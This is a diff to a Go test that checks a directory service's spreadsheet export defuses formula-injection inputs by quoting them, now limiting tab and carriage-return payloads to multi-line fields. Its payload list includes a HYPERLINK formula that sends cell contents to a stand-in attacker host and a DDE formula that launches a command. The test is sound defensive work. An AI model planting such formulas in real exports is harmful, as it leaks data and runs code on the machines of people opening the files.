@@ -16,6 +16,8 @@ import (
 // formulaAttacks are what an ORG_ADMIN may save in any free-text field of
 // an entry and a spreadsheet opening the export would run (issue 11,
 // finding 8).
+// The last two start with a tab and a carriage return: only multi-line
+// text (a description) may hold them.
 var formulaAttacks = []string{
 	`=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")`,
 	`=cmd|' /C calc'!A0`,
@@ -32,12 +34,14 @@ func TestDirectoryExport_NoCellOfTheNationalExportStartsAsAFormula(t *testing.T)
 	var first string
 	for _, attack := range formulaAttacks {
 		in := insatsInput()
-		in["functionName"] = attack
 		in["description"] = attack
-		in["targetGroups"] = []string{attack, "unga vuxna"}
-		in["expectedAnswer"] = attack
-		in["contactPersons"] = []string{attack}
-		in["channels"] = []map[string]any{{"kind": "PHONE", "value": "+46 771 524 524", "note": attack, "visibility": "FEDERATION"}}
+		if oneLine(attack) { // tabs and line breaks are refused in one line of text (input_test.go)
+			in["functionName"] = attack
+			in["targetGroups"] = []string{attack, "unga vuxna"}
+			in["expectedAnswer"] = attack
+			in["contactPersons"] = []string{attack}
+			in["channels"] = []map[string]any{{"kind": "PHONE", "value": "+46 771 524 524", "note": attack, "visibility": "FEDERATION"}}
+		}
 		if first != "" {
 			in["fallbackEntryId"] = first // written by its function name, the first attack
 		}
@@ -75,15 +79,16 @@ func TestDirectoryExport_NoCellOfTheNationalExportStartsAsAFormula(t *testing.T)
 	}
 	for _, attack := range formulaAttacks {
 		quoted := "'" + attack
-		listed := quoted // a list writes a carriage return as \r, which starts no formula
-		if attack[0] == '\r' {
-			listed = `\r` + attack[1:]
-		}
-		require.NotZero(t, count("function_name", "'"+strings.TrimSpace(attack)), "saving trims a function's name")
 		require.Equal(t, 1, count("description", quoted), "%q", attack)
+		if !oneLine(attack) {
+			continue
+		}
+		require.NotZero(t, count("function_name", quoted), "%q", attack)
 		require.Equal(t, 1, count("expected_answer", quoted), "%q", attack)
-		require.Equal(t, 1, count("contact_persons", listed), "%q", attack)
-		require.Equal(t, 1, count("target_groups", listed+";unga vuxna"), "%q", attack)
+		require.Equal(t, 1, count("contact_persons", quoted), "%q", attack)
+		require.Equal(t, 1, count("target_groups", quoted+";unga vuxna"), "%q", attack)
 	}
 	require.Equal(t, len(formulaAttacks)-1, count("fallback", "'"+formulaAttacks[0]), "a fallback is written by its name")
 }
+
+func oneLine(s string) bool { return !strings.ContainsAny(s, "\t\r\n") }
